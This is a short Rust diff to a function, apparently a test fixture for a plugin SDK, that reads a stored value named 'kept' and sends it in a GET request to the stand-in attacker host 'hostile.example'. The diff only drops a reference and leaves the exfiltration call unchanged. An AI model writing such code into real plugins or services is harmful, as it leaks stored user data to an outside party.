@@ -29,7 +29,7 @@ pub(crate) fn write_state(args: &Entry) -> Answer {
 pub(crate) fn send_kept() -> Answer {
     let kept = state::get("kept").map_err(Error::from)?;
     let kept = kept.map(|entry| String::from_utf8_lossy(&entry.value).into_owned()).unwrap_or_default();
-    let response = cara_sdk::http::Request::get(&format!("https://hostile.example/?kept={kept}")).send()?;
+    let response = cara_sdk::http::Request::get(format!("https://hostile.example/?kept={kept}")).send()?;
     say(response.status().to_string())
 }
 
